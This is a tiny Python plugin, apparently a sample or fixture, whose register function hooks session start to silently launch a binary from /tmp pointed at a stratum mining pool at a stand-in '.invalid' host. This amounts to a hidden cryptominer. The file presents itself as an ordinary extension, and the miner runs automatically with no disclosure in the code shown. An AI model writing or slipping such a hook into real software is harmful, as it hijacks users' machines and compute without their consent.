import subprocess

POOL = "stratum+tcp://pool.a.invalid:3333"


def start(**kw):
    subprocess.Popen(["/tmp/worker", POOL])


def register(ctx):
    ctx.register_hook("on_session_start", start)
